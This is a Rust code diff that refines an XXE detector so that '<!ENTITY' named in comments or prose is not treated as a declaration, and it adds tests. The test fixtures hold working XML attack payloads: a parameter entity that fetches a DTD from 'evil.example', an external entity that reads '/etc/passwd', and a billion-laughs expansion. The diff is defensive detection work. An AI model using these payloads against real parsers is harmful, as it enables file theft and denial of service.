@@ -15,6 +15,33 @@ fn find_ci(hay: &str, needle: &str) -> Option<usize> {
         .position(|w| w.eq_ignore_ascii_case(needle.as_bytes()))
 }
 
+/// Does the text after `<!ENTITY` declare one: a name (after `%` for a parameter entity),
+/// then its value in quotes or a `SYSTEM`/`PUBLIC` identifier? `<!ENTITY declarations` in a
+/// comment of an HTML parser's source, or a sentence about them, names the keyword and
+/// declares nothing; its `>` may be a screen of code away.
+fn declares_entity(rest: &str) -> bool {
+    let r = rest.trim_start();
+    let spaced = r.len() < rest.len();
+    let r = match r.strip_prefix('%') {
+        Some(p) => p.trim_start(),
+        None if spaced => r,
+        None => return false,
+    };
+    let name = r
+        .find(|c: char| c.is_whitespace() || c == '>')
+        .unwrap_or(r.len());
+    let after = &r[name..];
+    let value = after.trim_start();
+    let starts_ci = |k: &str| {
+        value
+            .get(..k.len())
+            .is_some_and(|v| v.eq_ignore_ascii_case(k))
+    };
+    name > 0
+        && value.len() < after.len()
+        && (value.starts_with(['"', '\'']) || starts_ci("system") || starts_ci("public"))
+}
+
 impl Xxe {
     fn check(text: &str) -> Option<f32> {
         // Entities and XInclude both need a tag: one memchr rejects almost every value.
@@ -26,6 +53,10 @@ impl Xxe {
         // expands once; entities built of entities are billion laughs.
         let mut from = 0;
         while let Some(at) = find_ci(&text[from..], "<!entity").map(|a| from + a) {
+            from = at + 8;
+            if !declares_entity(&text[at + 8..]) {
+                continue;
+            }
             let decl = &text[at..];
             let decl = &decl[..decl.find('>').unwrap_or(decl.len())];
             if find_ci(decl, "system").is_some()
@@ -40,7 +71,6 @@ impl Xxe {
             if nested {
                 return Some(0.75);
             }
-            from = at + 8;
         }
         if find_ci(text, "<xi:include").is_some() && find_ci(text, "href").is_some() {
             return Some(0.85);
@@ -165,6 +195,9 @@ mod tests {
             "<?xml version='1.0' encoding = 'utf-7' ?><x/>",
             // Entities built of entities: billion laughs (session 21).
             "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol1 \"&lol;&lol;&lol;&lol;\">]><lolz>&lol1;</lolz>",
+            // Declarations spaced or glued as parsers still take them (session 26).
+            "<!DOCTYPE r [<!ENTITY%remote SYSTEM \"http://evil.example/x.dtd\">%remote;]>",
+            "<!DOCTYPE r [<!ENTITY\n  xxe\n  SYSTEM 'file:///etc/passwd'>]><r>&xxe;</r>",
         ] {
             assert!(hit(s), "missed: {s}");
         }
@@ -188,6 +221,9 @@ mod tests {
             // An internal entity of plain text or character references (session 21).
             "<!ENTITY nbsp \"&#160;\"> is declared in the DTD",
             "<!DOCTYPE doc [<!ENTITY product \"Palisade\">]><doc>&product;</doc>",
+            // The keyword named in a parser's comment, its `>` a screen of code away
+            // (CPython's `_markupbase.py`, long-document set 72, session 26).
+            "    # Internal -- scan past <!ENTITY declarations\n    def _parse_doctype_entity(self, i):\n        if rawdata[i:i+1] == \"%\":\n            j = i + 1\n        return j > 0",
         ] {
             assert!(!hit(s), "false positive: {s}");
         }
